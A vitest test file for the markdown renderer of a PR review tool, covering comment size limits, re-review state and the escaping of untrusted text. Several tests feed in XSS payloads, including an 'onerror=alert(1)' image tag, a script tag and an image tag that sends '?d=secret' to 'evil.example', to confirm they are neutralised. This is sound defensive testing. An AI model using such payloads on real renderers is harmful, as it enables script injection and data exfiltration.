import { describe, expect, it } from 'vitest';
import { COMMENT_LIMIT, SUMMARY_MARKER, renderMarkdown } from '../../src/render/markdown.js';
import { safeMarkdown } from '../../src/render/escape.js';
import type { Finding, Report } from '../../src/report/types.js';

function finding(i: number, file = `svc/module_${i}.py`): Finding {
  return {
    id: `f${i}`, agent: 'system-architect', rule: 'http-call-without-timeout', severity: i % 3 === 0 ? 'high' : 'medium', kind: 'problem',
    file, line: i + 1, title: `\`requests.get\` without a timeout #${i}`, message: 'Waits forever when the upstream stalls. '.repeat(4),
    remedy: 'Pass `timeout=(3.05, 10)`.', source: 'check',
  };
}

function report(findings: Finding[], extra: Partial<Report> = {}): Report {
  return {
    schemaVersion: 1, status: 'blocked', pr: { title: 't', headSha: 'abcdef1234567' },
    agents: [{
      name: 'system-architect', description: 'd', status: 'blocked', files: findings.map((f) => f.file),
      reasons: [{ kind: 'path', detail: '**/*.py', files: findings.map((f) => f.file) }],
      checklist: [{ id: 'plan-for-failure', title: 'Plan for failure', verdict: 'fail', evidence: 'e', checkedBy: ['http-call-without-timeout'] },
        { id: 'avoid-over-engineering', title: 'Avoid over-engineering', verdict: 'not_applicable', evidence: 'No built-in rule covers this item yet.', checkedBy: [] }],
    }],
    findings, coverage: { reviewed: findings.map((f) => f.file), skipped: [] },
    usage: { llmCalls: 0, inputTokens: 0, outputTokens: 0, cacheReadTokens: 0, cacheWriteTokens: 0, estimatedCostUsd: 0 }, notices: [], ...extra,
  };
}

describe('renderMarkdown', () => {
  it('starts with the hidden marker only when asked', () => {
    expect(renderMarkdown(report([finding(1)]), { maxLength: COMMENT_LIMIT, marker: true }).startsWith(SUMMARY_MARKER)).toBe(true);
    expect(renderMarkdown(report([finding(1)]), { maxLength: COMMENT_LIMIT, marker: false })).not.toContain(SUMMARY_MARKER);
  });

  it('shows "not checked" for checklist items no rule covers, not a verdict', () => {
    const md = renderMarkdown(report([finding(1)]), { maxLength: COMMENT_LIMIT, marker: false });
    expect(md).toContain('| Avoid over-engineering | ⬜ not checked |');
    expect(md).toContain('| Plan for failure | ❌ fail |');
  });

  it('fits GitHub\'s comment limit on a huge review and says what it left out', () => {
    const many = Array.from({ length: 3000 }, (_, i) => finding(i));
    const md = renderMarkdown(report(many, { coverage: { reviewed: many.map((f) => f.file), skipped: [{ file: 'a.bin', reason: 'binary file' }] } }), {
      maxLength: COMMENT_LIMIT, marker: true, fullReportHint: 'the job summary of this run',
    });
    expect(md.length).toBeLessThanOrEqual(COMMENT_LIMIT);
    expect(md).toMatch(/shortened to fit GitHub's comment size limit: checklists are summarised and \d+ findings are not shown\. See the job summary of this run\./);
    expect(md).toContain('… and 2980 more (all in the JSON report)');
    expect(md).toContain('### Findings');
  });

  it('renders untrusted file names and route strings without HTML or mentions', () => {
    const evil = finding(1, 'svc/<img src=x onerror=alert(1)>@octocat|x.py');
    evil.title = 'Model loaded in `handler` for @org/team <script>';
    const md = renderMarkdown(report([evil]), { maxLength: COMMENT_LIMIT, marker: false });
    // GitHub shows code spans literally, so only the text outside them can carry HTML or mentions.
    const outsideCode = md.replace(/`[^`\n]*`/g, '');
    expect(outsideCode).not.toContain('<img');
    expect(outsideCode).not.toContain('<script>');
    expect(outsideCode).not.toMatch(/@org\/team/);
    expect(md).toContain('@\u2060org/team');
    expect(md).toContain('`svc/<img src=x onerror=alert(1)>@octocat|x.py:2`');
  });
});

describe('safeMarkdown', () => {
  it('escapes HTML and mentions outside code spans and keeps code spans literal', () => {
    expect(safeMarkdown('hi @alice <b>x</b> `@bob <i>`')).toBe('hi @\u2060alice &lt;b&gt;x&lt;/b&gt; `@bob <i>`');
  });
  it('leaves e-mail-like text and entities alone where harmless', () => {
    expect(safeMarkdown('a &amp; b & c')).toBe('a &amp; b &amp; c');
  });
});

describe('renderMarkdown: incremental re-review', () => {
  const resolved = [
    { id: 'r1', file: 'svc/a.py', line: 12, severity: 'high' as const, title: 'Model loaded per request <script>alert(1)</script> @org/team ~~x~~', rule: 'model-load-in-handler' },
    { id: 'r2', file: 'svc/b.py', severity: 'low' as const, title: '`eval` in handler\\', rule: 'eval' },
  ];

  it('lists resolved findings struck through, escaped, with location and severity', () => {
    const md = renderMarkdown(report([finding(1)], { resolved }), { maxLength: COMMENT_LIMIT, marker: false });
    expect(md).toContain('### Resolved since the last review');
    expect(md).toContain('- ~~Model loaded per request &lt;script&gt;alert(1)&lt;/script&gt; @\u2060org/team \\~\\~x\\~\\~~~ — `svc/a.py:12` · 🔴 High');
    expect(md).toContain('- ~~`eval` in handler\\\\~~ — `svc/b.py` · 🔵 Low');
    expect(md.indexOf('### Resolved since the last review')).toBeGreaterThan(md.indexOf('### Findings'));
    expect(md.indexOf('### Resolved since the last review')).toBeLessThan(md.indexOf('### Checklists'));
  });

  it('renders exactly as before when nothing was resolved and no state is given', () => {
    const plain = renderMarkdown(report([finding(1)]), { maxLength: COMMENT_LIMIT, marker: true });
    expect(renderMarkdown(report([finding(1)], { resolved: [] }), { maxLength: COMMENT_LIMIT, marker: true })).toBe(plain);
    expect(plain).not.toContain('Resolved since');
  });

  it('ends with the state verbatim, even when the review is shortened or cut to fit', () => {
    const state = `<!-- architect-review:state ${'A'.repeat(15_000)} -->`;
    const many = Array.from({ length: 3000 }, (_, i) => finding(i));
    const shortened = renderMarkdown(report(many, { resolved }), { maxLength: COMMENT_LIMIT, marker: true, state });
    expect(shortened.length).toBeLessThanOrEqual(COMMENT_LIMIT);
    expect(shortened.endsWith(`\n\n${state}`)).toBe(true);
    expect(shortened).toContain('shortened to fit GitHub\'s comment size limit');
    expect(shortened).toContain('### Resolved since the last review');

    const cut = renderMarkdown(report([finding(1)], { notices: ['n'.repeat(80_000)] }), { maxLength: COMMENT_LIMIT, marker: true, state });
    expect(cut.length).toBeLessThanOrEqual(COMMENT_LIMIT);
    expect(cut.endsWith(`\n\n${state}`)).toBe(true);
    expect(cut).toContain('… (cut to fit the size limit)');

    const small = renderMarkdown(report([finding(1)]), { maxLength: COMMENT_LIMIT, marker: true, state });
    expect(small).toBe(`${renderMarkdown(report([finding(1)]), { maxLength: COMMENT_LIMIT, marker: true })}\n\n${state}`);
  });

  it('refuses a state that leaves no room for the review', () => {
    expect(() => renderMarkdown(report([]), { maxLength: 2_000, marker: true, state: 'x'.repeat(1_500) })).toThrow(/encode a smaller state/);
  });
});

describe('renderMarkdown: what reviewed', () => {
  it('says "offline checks" without the LLM reviewer', () => {
    const md = renderMarkdown(report([finding(1)]), { maxLength: COMMENT_LIMIT, marker: false });
    expect(md).toContain('<sub>Architect Review · offline checks · head `abcdef1`</sub>');
    expect(md).not.toContain('Not sent to the model');
  });

  it('names the model, its usage and cost, and the files not sent to it', () => {
    const md = renderMarkdown(
      report([finding(1)], {
        coverage: {
          reviewed: ['svc/module_1.py'], skipped: [],
          llm: { model: 'claude-sonnet-5-5', sent: [{ agent: 'system-architect', files: ['svc/module_1.py'] }],
            notSent: [{ agent: 'system-architect', file: 'svc/big_<b>.py', reason: 'over the max-input-tokens budget' }] },
        },
        usage: { llmCalls: 3, inputTokens: 1000, outputTokens: 400, cacheReadTokens: 5000, cacheWriteTokens: 2500, estimatedCostUsd: 0.0234 },
      }),
      { maxLength: COMMENT_LIMIT, marker: false },
    );
    expect(md).toContain('offline checks + `claude-sonnet-5-5` (3 calls, 8500 input tokens of which 5000 from cache, 400 output, ≈ $0.02)');
    expect(md).toContain('Not sent to the model (offline checks only), and why');
    expect(md).toContain('`svc/big_<b>.py` (system-architect) — over the max-input-tokens budget');
  });
});

describe('safeMarkdown against code-span tricks', () => {
  it('escapes HTML between backslash-escaped backticks, which open no code span on GitHub', () => {
    const remedy = 'Fix it: \\`<img src=https://evil.example/x.png?d=secret>\\` and \\`@org/team\\`';
    const safe = safeMarkdown(remedy);
    expect(safe).not.toContain('<img');
    expect(safe).toContain('&lt;img');
    expect(safe).toContain('@\u2060org/team');
  });

  it('keeps real code spans as they are', () => {
    expect(safeMarkdown('call `requests.get(url, timeout=5)` <b>')).toBe('call `requests.get(url, timeout=5)` &lt;b&gt;');
  });
});
